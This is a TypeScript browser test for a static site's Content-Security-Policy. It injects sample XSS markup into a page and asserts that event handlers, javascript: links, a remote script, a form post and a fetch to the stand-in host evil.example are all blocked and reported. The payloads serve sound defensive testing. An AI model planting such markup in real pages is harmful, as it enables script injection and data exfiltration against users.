// Content-Security-Policy of the built site (observablehq.config.js `head`), in real Chromium:
// 1. every page carries the policy and renders under it with no violation, no console error and
//    no request to another origin (the policy must allow what Framework and DuckDB-WASM need);
// 2. hostile markup put into a page (as a rendering bug might let an answer through) stays inert:
//    event-handler attributes, javascript: links, SVG onload, scripts and images from other
//    origins, <base> and form targets are blocked by the policy and reported as violations.
import {test} from "node:test";
import assert from "node:assert/strict";
import {recordViolations, reportedViolations} from "../helpers/csp.ts";
import {waitForPage, useBuiltSite} from "../helpers/site.ts";

const site = useBuiltSite();

// Every page under the policy (1. above) is checked where pages.test.ts opens it, in the same page
// load as its other checks: cspProblems (test/helpers/csp.ts).

test("CSP: hostile markup in a page stays inert and outside origins are blocked", async () => {
  const context = await site.browser.newContext();
  const tab = await context.newPage();
  await recordViolations(tab);
  const outside: string[] = [];
  // Chromium announces a request before CSP refuses it; what matters is that none completes.
  tab.on("requestfinished", (r) => {
    if (/^https?:/.test(r.url()) && !r.url().startsWith(site.server.url)) outside.push(r.url());
  });
  await tab.goto(site.server.url + "/responses", {waitUntil: "load"});
  await waitForPage(tab, 60_000);
  const fired = await tab.evaluate(async () => {
    const w = window as unknown as {__pwned: string[]};
    w.__pwned = [];
    const host = document.createElement("div");
    // What an answer rendered as HTML by mistake could carry.
    host.innerHTML = [
      `<img src="x:" onerror="window.__pwned.push('onerror')">`,
      `<svg onload="window.__pwned.push('svg-onload')"><circle r="1"/></svg>`,
      `<a id="js-link" href="javascript:window.__pwned.push('javascript-link')">click</a>`,
      `<div style="background:url(https://evil.example/x.png)">css</div>`,
      `<img src="https://evil.example/pixel.png">`,
      `<form id="f" action="https://evil.example/post"><input name="a" value="b"></form>`,
      `<base href="https://evil.example/">`,
      `<object data="https://evil.example/x.swf"></object>`,
      `\u202Eevil\u202C`,
    ].join("");
    document.querySelector("main")!.append(host);
    // A script element added from code (as an HTML sanitiser bug might): other origins are refused.
    const s = document.createElement("script");
    s.src = "https://evil.example/x.js";
    document.head.append(s);
    (document.getElementById("js-link") as HTMLAnchorElement).click();
    try {
      (document.getElementById("f") as HTMLFormElement).submit();
    } catch {
      // blocked
    }
    let fetched = "blocked";
    try {
      await fetch("https://evil.example/data.json");
      fetched = "fetched";
    } catch {
      // refused by connect-src
    }
    await new Promise((r) => setTimeout(r, 500));
    return {pwned: w.__pwned, fetched};
  });
  const got = await reportedViolations(tab);
  await context.close();
  assert.deepEqual(fired.pwned, [], "no injected handler or javascript: link ran");
  assert.equal(fired.fetched, "blocked");
  assert.deepEqual(outside, [], "no request left the site's origin");
  for (const d of ["script-src-attr", "img-src", "script-src-elem", "connect-src"])
    assert.ok(
      got.some((v) => v.startsWith(d)),
      `no ${d} violation reported (${got.join("; ")})`,
    );
});
